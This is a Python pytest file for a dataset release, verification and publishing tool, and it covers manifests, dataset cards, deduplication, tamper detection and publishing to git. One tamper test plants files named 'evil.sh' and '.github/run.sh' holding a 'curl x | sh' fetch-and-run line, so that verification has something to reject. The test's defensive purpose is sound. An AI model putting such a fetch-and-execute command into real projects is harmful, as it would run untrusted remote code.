import json
import os
import shutil
import subprocess

import pytest

from mtgauntlet.errors import GauntletError
from mtgauntlet.releases.catalog import run_query
from mtgauntlet.releases.local_hub import LocalGitHub
from mtgauntlet.releases.publish import plan_publish, publish
from mtgauntlet.releases.release import make_release, verify_release
from tests.support.cli import invoke
from tests.support.release_helpers import run_main


@pytest.fixture(scope="module")
def builds(tmp_path_factory, sample_path):
    root = tmp_path_factory.mktemp("builds")
    common = [
        "--input",
        str(sample_path),
        "--src-col",
        "es",
        "--ref-col",
        "en",
        "--src-lang",
        "es",
        "--tgt-lang",
        "en",
        "--good-from",
        "reference",
    ]
    r = invoke(["build", "smaug", *common, "--phenomena", "ne,num,neg", "--out", str(root / "v1")])
    assert r.exit_code == 0, r.output
    r = invoke(["build", "smaug", *common, "--out", str(root / "v2")])
    assert r.exit_code == 0, r.output
    return root


@pytest.fixture(scope="module")
def releases(builds, tmp_path_factory):
    out = tmp_path_factory.mktemp("rel") / "releases"
    for b, v in (("v1", "0.1.0"), ("v2", "0.2.0")):
        r = invoke(["release", str(builds / b), "--name", "smaug-demo", "--version", v, "--out", str(out)])
        assert r.exit_code == 0, r.output
    return out


def _manifest(rel):
    return json.loads((rel / "manifest.json").read_text())


def test_release_layout_and_full_file_manifest(releases):
    rel = releases / "name=smaug-demo" / "version=0.2.0"
    m = _manifest(rel)
    assert m["version"] == "0.2.0" and m["kinds"] == ["smaug_pair"]
    data = {f["path"] for f in m["files"] if f.get("kind")}
    assert data == {f"data/smaug_pair/es-en/{p}.parquet" for p in ("ne", "num", "neg", "ins", "del")}
    on_disk = {p.relative_to(rel).as_posix() for p in rel.rglob("*") if p.is_file()} - {"manifest.json"}
    assert {f["path"] for f in m["files"]} == on_disk  # every file, card/croissant/plots included
    assert {"README.md", "croissant.json", "plots/smaug_pair_phenomena.png"} <= on_disk
    assert all(len(f["sha256"]) == 64 and f["bytes"] > 0 for f in m["files"])
    assert m["total_rows"] == sum(f["rows"] for f in m["files"] if f.get("kind")) == m["rows"]["smaug_pair"]
    assert m["signatures"][0].startswith("builder:smaug|") and "pyarrow" in m["versions"]
    assert m["validation"] is None and m["dropped_duplicates"] == {"smaug_pair": 0}


def test_card_yaml_round_trip_sections_and_citations(releases):
    from huggingface_hub import DatasetCard

    card = DatasetCard.load(releases / "name=smaug-demo" / "version=0.2.0" / "README.md")
    data = card.data.to_dict()
    for key in (
        "pretty_name",
        "license",
        "language",
        "task_categories",
        "size_categories",
        "configs",
        "source_datasets",
        "tags",
    ):
        assert data.get(key), key
    assert data["task_categories"] == ["translation"] and set(data["language"]) == {"es", "en"}
    names = [c["config_name"] for c in data["configs"]]
    assert names[0] == "smaug_pair" and data["configs"][0]["default"] is True
    assert {"smaug_pair-es-en", "smaug_pair-ne", "smaug_pair-del"} <= set(names) and "all" not in names
    assert DatasetCard(str(card)).data.to_dict() == data
    text = str(card)
    for section in (
        "## Dataset Description",
        "### Columns",
        "| `checks` | `list<struct<name: string, value: double>>`",
        "map_from_entries(checks)",
        "## Statistics",
        "## Validation",
        "### `smaug_pair`: not validated",
        "## Licensing",
        "## Bias, Risks, and Limitations",
        "## Citation",
        "builder:smaug|",
        "author = {Alves, Duarte M.",
        "![smaug_pair_phenomena](plots/smaug_pair_phenomena.png)",
    ):
        assert section in text, section
    assert "(see the" not in text


def test_refuses_to_overwrite_and_bad_names(builds, releases, tmp_path):
    with pytest.raises(GauntletError, match="immutable"):
        make_release([builds / "v2"], "smaug-demo", "0.2.0", out=releases)
    with pytest.raises(GauntletError, match="invalid version"):
        make_release([builds / "v2"], "smaug-demo", "0.2", out=releases)
    for bad in ("x\n", "../x", "a/b", "x y", "", "-x"):
        with pytest.raises(GauntletError, match="invalid release name"):
            make_release([builds / "v2"], bad, "0.1.0", out=tmp_path)
    assert not any(tmp_path.iterdir())


def test_failure_midway_and_killed_releases_leave_nothing(builds, tmp_path, monkeypatch):
    import mtgauntlet.cards.card as card

    def boom(*a, **k):
        raise RuntimeError("disk full")

    with monkeypatch.context() as m:
        m.setattr(card, "write_card", boom)
        with pytest.raises(RuntimeError):
            make_release([builds / "v1"], "x", "1.0.0", out=tmp_path)
    assert list((tmp_path / "name=x").iterdir()) == []
    stale = tmp_path / "name=x" / ".version=0.9.0.4242-dead.tmp"  # what a kill -9 mid-release leaves
    (stale / "data").mkdir(parents=True)
    make_release([builds / "v1"], "x", "1.0.0", out=tmp_path)
    assert sorted(p.name for p in (tmp_path / "name=x").iterdir()) == ["version=1.0.0"]


def test_release_respects_the_umask(builds, tmp_path):
    old = os.umask(0o022)
    try:
        rel = make_release([builds / "v1"], "perm", "0.1.0", out=tmp_path / "releases")
    finally:
        os.umask(old)
    dirs = [rel, *[p for p in rel.rglob("*") if p.is_dir()]]
    assert {oct(p.stat().st_mode & 0o777) for p in dirs} == {"0o755"}
    assert {oct(p.stat().st_mode & 0o777) for p in rel.rglob("*") if p.is_file()} == {"0o644"}


def test_duplicates_and_partial_builds_are_refused_or_counted(builds, tmp_path):
    out = tmp_path / "releases"
    with pytest.raises(GauntletError, match="given twice"):
        make_release([builds / "v1", builds / "v1" / "data"], "dup", "0.1.0", out=out)
    copy = tmp_path / "copy-of-v1"
    shutil.copytree(builds / "v1", copy)
    with pytest.raises(GauntletError, match="same build"):
        make_release([builds / "v1", copy], "dup", "0.1.0", out=out)
    # v1 (ne, num, neg) is contained in v2 (all phenomena, same seed): the shared records are kept once
    rel = make_release([builds / "v2", builds / "v1"], "overlap", "0.1.0", out=out)
    m = _manifest(rel)
    v1_rows = _manifest(make_release([builds / "v1"], "v1only", "0.1.0", out=out))["total_rows"]
    assert m["dropped_duplicates"]["smaug_pair"] == v1_rows > 0
    assert m["total_rows"] == _manifest(make_release([builds / "v2"], "v2only", "0.1.0", out=out))["total_rows"]
    ids = run_query(out, "SELECT count(*) AS n, count(DISTINCT id) AS d FROM smaug_pair WHERE name = 'overlap'")
    assert ids["n"][0] == ids["d"][0] == m["total_rows"]
    assert f"{v1_rows} smaug_pair" in (rel / "README.md").read_text()
    # an unfinished build, whatever path is given
    partial = tmp_path / "partial"
    shutil.copytree(builds / "v2", partial)
    bj = json.loads((partial / "build.json").read_text())
    (partial / "build.json").write_text(json.dumps({**bj, "status": "in_progress"}))
    for path in (partial, partial / "data", next((partial / "data").glob("*.parquet"))):
        with pytest.raises(GauntletError, match="not complete"):
            make_release([path], "partial", "0.1.0", out=out)
    # a complete build whose files changed afterwards
    (partial / "build.json").write_text(json.dumps({**bj, "produced": bj["produced"] + 7}))
    with pytest.raises(GauntletError, match="files were added or removed"):
        make_release([partial], "partial", "0.1.0", out=out)
    loose = tmp_path / "loose.parquet"
    shutil.copy(next((builds / "v1" / "data").glob("*.parquet")), loose)
    with pytest.raises(GauntletError, match="not a build"):
        make_release([loose], "loose", "0.1.0", out=out)
    assert sorted(p.name for p in out.iterdir()) == ["name=overlap", "name=v1only", "name=v2only"]


def test_two_releases_loaded_by_directory_in_one_process_return_their_own_rows(builds, tmp_path):
    datasets = pytest.importorskip("datasets")
    a = make_release([builds / "v1"], "alpha", "0.1.0", out=tmp_path / "r")
    b = make_release([builds / "v2"], "beta", "0.1.0", out=tmp_path / "r")
    for rel in (a, b, a):
        ds = datasets.load_dataset(str(rel), "smaug_pair", split="test", cache_dir=str(tmp_path / "hf"))
        assert len(ds) == _manifest(rel)["total_rows"]
        assert sorted(ds["id"]) == sorted(
            run_query(rel.parent.parent, f"SELECT id FROM smaug_pair WHERE name = '{_manifest(rel)['name']}'")["id"]
        )


@pytest.mark.parametrize("tamper", ["flip", "card", "croissant", "plot", "extra", "hidden", "missing"])
def test_verify_and_publish_catch_any_changed_missing_or_extra_file(builds, tmp_path, tamper, monkeypatch, capsys):
    rel = make_release([builds / "v1"], "t", "0.1.0", out=tmp_path)
    assert verify_release(rel) == []
    if tamper == "flip":
        target = rel / "data" / "smaug_pair" / "es-en" / "ne.parquet"
        raw = bytearray(target.read_bytes())
        raw[len(raw) // 2] ^= 0x01
        target.write_bytes(bytes(raw))
    elif tamper == "card":
        card = (rel / "README.md").read_text()
        assert "\nlicense: unknown\n" in card  # the sample's provenance was not stated: unknown, never guessed
        (rel / "README.md").write_text(card.replace("\nlicense: unknown\n", "\nlicense: mit\n"))
    elif tamper == "croissant":
        (rel / "croissant.json").write_text((rel / "croissant.json").read_text().replace('"0.1.0"', '"9.9.9"'))
    elif tamper == "plot":
        with open(rel / "plots" / "smaug_pair_phenomena.png", "ab") as fh:
            fh.write(b"\0")
    elif tamper == "extra":
        (rel / "evil.sh").write_text("curl x | sh\n")
        (rel / "data" / "notes.txt").write_text("hi\n")
    elif tamper == "hidden":  # only .git, .gitattributes and .cache/huggingface at the top are not the release's
        (rel / ".github").mkdir()
        (rel / ".github" / "run.sh").write_text("curl x | sh\n")
        (rel / "data" / ".gitattributes").write_text("* binary\n")
        (rel / ".cache" / "other").mkdir(parents=True)
        (rel / ".cache" / "other" / "x").write_text("x\n")
    else:
        (rel / "croissant.json").unlink()
    problems = verify_release(rel)
    assert problems and all(("changed" in p) or ("extra file" in p) or ("missing" in p) for p in problems)
    code, out, err = run_main(monkeypatch, capsys, "verify", rel)
    assert code == 1 and "MISMATCH" in err
    repo = tmp_path / "hub.git"
    code, out, err = run_main(monkeypatch, capsys, "publish", rel, "--repo", f"file:{repo}")
    assert code == 2 and err.startswith("error: ") and "does not verify" in err and len(err.splitlines()) == 1
    assert not repo.exists()  # a refused publish leaves no repository behind


def test_corrupt_manifest_is_a_one_line_error(builds, tmp_path, monkeypatch, capsys):
    rel = make_release([builds / "v1"], "c", "0.1.0", out=tmp_path)
    for text in ("{not json", '{"files": 3}', "[]"):
        (rel / "manifest.json").write_text(text)
        code, out, err = run_main(monkeypatch, capsys, "verify", rel)
        assert code == 2 and err.startswith("error: ") and "manifest.json" in err, (text, err)
        assert len(err.strip().splitlines()) == 1
        # the catalog skips the unreadable release and says so in one line; other queries still run
        code, out, err = run_main(monkeypatch, capsys, "query", "--releases", tmp_path, "SELECT 1 AS x")
        assert code == 0 and err.startswith("warning: catalog: skipped ") and "manifest.json" in err, (text, err)
        assert len(err.strip().splitlines()) == 1


def test_publish_to_local_git_commit_tag_removals_and_renames(builds, tmp_path, monkeypatch, capsys):
    fig = tmp_path / "figs"
    fig.mkdir()
    (fig / "first.png").write_bytes(b"\x89PNG fake figure bytes")
    (fig / "second.png").write_bytes(b"\x89PNG fake figure bytes")
    out = tmp_path / "releases"
    v1 = make_release([builds / "v2"], "pub", "0.1.0", out=out, extra_figures=[fig / "first.png"])
    v2 = make_release([builds / "v1"], "pub", "0.2.0", out=out, extra_figures=[fig / "second.png"])
    repo = tmp_path / "hub.git"
    plan = publish(v1, f"file:{repo}")
    api = LocalGitHub(repo)
    assert {t.name: t.target_commit for t in api.list_repo_refs().tags} == {"v0.1.0": plan.commit}
    expected1 = sorted([f["path"] for f in _manifest(v1)["files"]] + ["manifest.json"])
    assert sorted(api.list_repo_files(revision=plan.commit)) == expected1
    again = publish(v1, f"file:{repo}")  # the same release again: nothing to send, no error (#34.12)
    assert again.already_published and again.commit == plan.commit and not again.operations
    # v2 drops the ins/del files and renames the figure: published into the bare repository like on the Hub
    plan2 = publish(v2, f"file:{repo}")
    log = subprocess.run(
        ["git", "-C", str(repo), "log", "--format=%H %P", "main"], capture_output=True, text=True
    ).stdout
    assert log.splitlines()[0] == f"{plan2.commit} {plan.commit}"
    expected2 = sorted([f["path"] for f in _manifest(v2)["files"]] + ["manifest.json"])
    assert sorted(api.list_repo_files(revision="v0.2.0")) == expected2
    assert "data/smaug_pair/es-en/ins.parquet" in expected1 and "data/smaug_pair/es-en/ins.parquet" not in expected2
    assert "plots/second.png" in expected2 and "plots/first.png" not in expected2
    assert {t.name: t.target_commit for t in api.list_repo_refs().tags}["v0.1.0"] == plan.commit
    with pytest.raises(GauntletError, match="moved"):
        api.create_commit("x", [], "stale", parent_commit=plan.commit)
    # a work-tree repository works too; a regular file is a one-line error and stays untouched
    work = tmp_path / "work-repo"
    subprocess.run(["git", "init", "-q", "-b", "main", str(work)], check=True)
    assert publish(v1, f"file:{work}").commit
    plain = tmp_path / "plain.txt"
    plain.write_text("not a repo\n")
    code, _, err = run_main(monkeypatch, capsys, "publish", v1, "--repo", f"file:{plain}")
    assert code == 2 and err.startswith("error: ") and len(err.splitlines()) == 1
    assert plain.read_text() == "not a repo\n"


def test_publish_dry_run_and_unreachable_hub(releases, monkeypatch, capsys):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    rel = releases / "name=smaug-demo" / "version=0.2.0"
    r = invoke(["publish", str(rel), "--repo", "my-org/smaug-demo", "--dry-run"])
    assert r.exit_code == 0, r.output
    assert "add    README.md" in r.output and "add    data/smaug_pair/es-en/neg.parquet" in r.output
    assert "tag: v0.2.0" in r.output and "nothing was published" in r.output
    plan = plan_publish(rel, "my-org/smaug-demo")
    assert sorted(op.path_in_repo for op in plan.operations) == sorted(
        [f["path"] for f in _manifest(rel)["files"]] + ["manifest.json"]
    )
    code, out, err = run_main(monkeypatch, capsys, "publish", rel, "--repo", "my-org/smaug-demo")
    assert code == 2 and "not reachable" in err and "nothing was published" in err and len(err.splitlines()) == 1
    assert "hf_" not in err


def test_catalog_across_versions_from_another_directory(releases, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rel = run_query(releases, "SELECT name, version, major, minor, patch, rows FROM releases ORDER BY version")
    assert rel["version"].tolist() == ["0.1.0", "0.2.0"] and rel["minor"].tolist() == [1, 2]
    counts = run_query(
        releases, "SELECT version, count(DISTINCT phenomenon) AS n FROM smaug_pair GROUP BY version ORDER BY version"
    )
    assert counts["n"].tolist() == [3, 5]
    latest = run_query(releases, "SELECT DISTINCT version FROM latest_smaug_pair")
    assert latest["version"].tolist() == ["0.2.0"]
    assert run_query(releases, "SELECT typeof(version) AS t FROM smaug_pair LIMIT 1")["t"][0] == "VARCHAR"
    r = invoke(["query", "--releases", str(releases), "-f", "csv", "SELECT count(*) AS n FROM releases"])
    assert r.output.splitlines() == ["n", "2"]
